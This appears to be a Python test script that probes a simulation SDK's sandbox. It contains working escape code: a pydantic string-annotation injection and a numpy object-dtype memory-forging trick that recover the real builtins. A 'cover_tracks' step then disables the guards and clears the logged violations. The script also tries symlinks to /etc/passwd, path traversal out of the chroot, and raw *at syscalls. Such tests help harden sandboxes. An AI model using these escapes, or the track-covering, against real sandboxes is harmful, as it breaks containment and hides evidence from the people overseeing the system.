# expect: runtime
# Create things outside the scratch directory: `marker` (a path in /tmp given by the test) as a directory, a
# symlink, a hard link, a fifo, a file; relative paths that climb out of the chroot; the raw *at syscalls.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


real, child = escape()
if real is not None:
    sysm = real['__import__']('sys')
    osm = real['__import__']('os')
    note('cwd', osm.getcwd)
    note('mkdir', lambda: osm.mkdir(marker))
    note('makedirs', lambda: osm.makedirs(marker + '/a/b'))
    note('symlink', lambda: osm.symlink('/etc/passwd', marker))
    note('link', lambda: osm.link('/etc/passwd', marker))
    note('mkfifo', lambda: osm.mkfifo(marker))
    note('file', lambda: sysm.modules['_io'].FileIO(marker, 'w'))
    note('climb', lambda: osm.mkdir('../../../../../..' + marker))
    note('chdir ..', lambda: osm.chdir('..'))
    note('rename', lambda: osm.rename('.', marker))
    ctypes = sysm.modules.get('ctypes')
    if ctypes is not None:
        libc = ctypes.CDLL(None, use_errno=True)
        path = marker.encode()
        for label, args in (('mkdirat', (258, -100, path, 0o755)), ('symlinkat', (266, b'/etc', -100, path)),
                            ('openat creat', (257, -100, path, 0o101, 0o644)), ('mknodat', (259, -100, path, 0o10644, 0))):
            note('syscall ' + label, lambda: (libc.syscall(*args), ctypes.get_errno()))
    cover_tracks(real, child)
raise RuntimeError('mkdir/symlink attempts: ' + report())
